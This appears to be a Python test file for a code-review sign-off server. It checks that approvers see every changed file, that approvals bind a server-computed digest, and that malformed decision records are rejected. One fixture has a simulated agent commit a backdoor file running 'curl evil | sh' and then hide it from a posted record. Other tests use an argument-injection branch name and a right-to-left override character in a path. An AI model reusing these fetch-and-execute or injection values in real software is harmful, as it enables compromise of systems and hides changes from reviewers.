"""What an approver is shown and what an approval binds come from the server's own reading of
the repository, never from a posted decision record (which a `ci` token writes)."""

from __future__ import annotations

from typing import Any

import sqlalchemy as sa
from gitrepo import COPILOT
from serverteam import Team
from webkit import session_client

from signoff.gate.check import run_check
from signoff.gate.record import decision_payload
from signoff.ledger.events import EventType
from signoff.server.tables import decisions


def hide_a_file(team: Team) -> tuple[str, dict[str, Any]]:
    """The agent adds a second source file; the record CI posts lists only the first one."""
    repo = team.world.repo
    repo.checkout("work")
    repo.write("src/backdoor.py", "import os; os.system('curl evil | sh')\n")
    head = repo.commit("agent: tidy", author=COPILOT)
    repo.checkout("main")
    record = decision_payload(run_check(repo.path, team.world.base, head, approvals_ref=None))
    record["files"] = [f for f in record["files"] if f["path"] == "src/app.py"]
    record["approvals"] = [a for a in record.get("approvals", []) if a["class"] == "source"]
    r = team.api("ci").post("/v1/repos/demo/decisions", record)
    assert r.status_code == 201, r.text
    assert r.json()["evidence"] == "asserted"
    return head, record


def test_a_posted_record_cannot_hide_a_file_from_the_approver(any_team: Team) -> None:
    team = any_team
    head, _ = hide_a_file(team)
    client, _ = session_client(team, "alice")
    page = client.get("/ui/inbox")
    assert page.status_code == 200, page.text
    # the server read the change itself: every file is listed and in the diff
    for path in ("src/backdoor.py", "src/app.py", "package-lock.json", ".github/workflows/ci.yml"):
        assert path in page.text, path
    assert "curl evil" in page.text
    ev = team.api("alice").ok("GET", "/v1/repos/demo/evaluations", params={"head": head})
    (latest,) = ev["items"]
    assert latest["evidence"] == "witnessed"
    paths = {f["path"] for f in latest["record"]["files"]}
    assert {"src/backdoor.py", "src/app.py", "package-lock.json"} <= paths
    client.close()


def test_an_approval_binds_the_change_set_the_server_computed(any_team: Team) -> None:
    team = any_team
    w = team.world
    ev = team.api("ci").ok("POST", "/v1/repos/demo/evaluations", {"base": w.base, "head": w.head})
    body: dict[str, Any] = {"base": w.base, "head": w.head, "decision": "approve",
                            "classes": ["source"]}  # fmt: skip
    before = team.counts()
    r = team.api("alice").post(
        "/v1/repos/demo/approvals", {**body, "changeset": "sha256:" + "0" * 64}
    )
    assert r.status_code == 409 and r.json()["error"]["code"] == "stale_digest", r.text
    assert team.counts() == before
    r = team.api("alice").post(
        "/v1/repos/demo/approvals", {**body, "changeset": ev["changeset_digest"]}
    )
    assert r.status_code == 201, r.text
    assert r.json()["changeset_digest"] == ev["changeset_digest"]
    assert r.json()["digests"] == {"source": ev["classes"]["source"]}
    (event,) = [
        e for e in team.server.ctx.recorder.ledger.recent(50) if e.type is EventType.APPROVAL_GIVEN
    ]
    assert event.payload["changeset_digest"] == ev["changeset_digest"]
    assert "payload.changeset_digest" in event.witnessed


def test_evaluations_are_witnessed_and_stored_once_per_outcome(any_team: Team) -> None:
    team = any_team
    w = team.world
    body = {"base": w.base, "head": w.head}
    first = team.api("ci").ok("POST", "/v1/repos/demo/evaluations", body)
    again = team.api("auditor").ok("POST", "/v1/repos/demo/evaluations", body)
    assert again["id"] == first["id"] and first["decision"] == "needs-approval"
    ledger = team.server.ctx.recorder.ledger
    evaluated = [e for e in ledger.recent(100) if e.type is EventType.DECISION_EVALUATED]
    assert len(evaluated) == 1
    (e,) = evaluated
    assert e.actor == "signoff:server" and e.payload["evidence"] == "witnessed"
    assert e.payload["digests"]["change_set"] == first["changeset_digest"]
    assert {"actor", "payload.classes", "payload.record_sha256"} <= set(e.witnessed)
    # an approval changes what the gate counts: the range is evaluated again, once
    team.api("alice").ok("POST", "/v1/repos/demo/approvals", {**body, "decision": "approve"})
    items = team.api("auditor").ok("GET", "/v1/repos/demo/evaluations")["items"]
    assert len(items) == 2
    src = next(s for s in items[0]["record"]["approvals"] if s["class"] == "source")
    assert src["approvers"] == ["alice@example.com"]
    assert team.api("dave").post("/v1/repos/demo/evaluations", body).status_code == 403
    assert ledger.verify().ok


def test_evaluating_what_the_copy_lacks_is_a_clear_error(team: Team) -> None:
    r = team.api("ci").post(
        "/v1/repos/demo/evaluations", {"base": team.world.base, "head": "e" * 40}
    )
    assert r.status_code == 422 and r.json()["error"]["code"] == "git", r.text
    r = team.api("ci").post(
        "/v1/repos/demo/evaluations",
        {"base": team.world.base, "head": team.world.head, "target_branch": "--output=/tmp/x"},
    )
    assert r.status_code == 422 and r.json()["error"]["field"] == "target_branch"


def _post(team: Team, **change: Any) -> Any:
    w = team.world
    record = decision_payload(run_check(w.repo.path, w.base, w.head, approvals_ref=None))
    record.update(change)
    return team.api("ci").post("/v1/repos/demo/decisions", record)


def test_malformed_decision_records_are_refused_on_write(any_team: Team) -> None:
    team = any_team
    before = team.counts()
    cases: list[tuple[dict[str, Any], str]] = [
        ({"files": [{"path": "x"}]}, "files.0.class"),
        ({"files": [{"path": 5, "class": "source", "risk": "low", "decision": "allow"}]},
         "files.0.path"),
        ({"approvals": [{"class": "source"}]}, "approvals.0.digest"),
        ({"commits": [{"sha": "zz", "attribution": "agent"}]}, "commits.0.sha"),
        ({"files": [{"path": "a\u202eb", "class": "source", "risk": "low",
                     "decision": "allow"}]}, "files.0.path"),
    ]  # fmt: skip
    for change, field in cases:
        r = _post(team, **change)
        assert r.status_code == 422, r.text
        assert r.json()["error"]["field"] == field, r.json()
    assert team.counts() == before
    assert _post(team).status_code == 201  # the gate's own record is accepted as it is


def test_one_malformed_stored_record_does_not_break_the_inbox(any_team: Team) -> None:
    team = any_team
    w = team.world
    assert _post(team).status_code == 201
    team.api("ci").ok("POST", "/v1/repos/demo/evaluations", {"base": w.base, "head": w.head})
    with team.server.ctx.db.write() as conn:  # e.g. written by an older version, or by hand
        conn.execute(
            decisions.insert().values(
                id="dec-20250101000000-0000000000000000", repo="demo", base="b" * 40,
                head="c" * 40, verdict="needs-approval", record="{not json",
                posted_by="service:ci", created="2999-01-01T00:00:00.000000Z",
            )
        )  # fmt: skip
        conn.execute(sa.text("UPDATE server_evaluations SET record = '[]'"))
    client, _ = session_client(team, "alice")
    page = client.get("/ui/inbox")
    assert page.status_code == 200, page.text
    assert "the server cannot evaluate this change" in page.text  # the bogus head
    assert "stored evaluation cannot be read" in page.text
    assert w.head[:12] in page.text
    client.close()
    rows = team.api("auditor").ok("GET", "/v1/repos/demo/decisions")["items"]
    assert all(r["evidence"] == "asserted" for r in rows)
    assert {"unreadable"} in [set(r["record"]) for r in rows]
